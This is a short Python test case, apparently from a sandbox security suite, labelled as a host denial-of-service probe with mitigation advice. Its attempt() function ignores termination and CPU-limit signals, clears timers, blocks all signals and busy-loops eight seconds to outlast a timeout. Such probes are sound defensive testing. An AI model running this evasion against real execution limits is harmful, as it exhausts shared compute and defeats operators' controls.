# title: Ignore signals while looping
# tries: Ignores SIGALRM, SIGXCPU, SIGTERM, SIGINT and SIGHUP, clears all timers, blocks every signal, and loops for eight seconds.
# impact: HostDoS
# proof: returned
# host: never, it keeps a processor busy past the limit
# timeout: 0.5
# advice: End executions from outside by a clock of the server's own, with SIGKILL after a short grace, the only signal that cannot be ignored.


def attempt(host):
    import signal
    import time

    end = time.monotonic() + 8
    for each in (signal.SIGALRM, signal.SIGXCPU, signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(each, signal.SIG_IGN)
    for timer in (signal.ITIMER_REAL, signal.ITIMER_VIRTUAL, signal.ITIMER_PROF):
        signal.setitimer(timer, 0)
    signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
    while time.monotonic() < end:
        pass
    return "ran for 8 s"
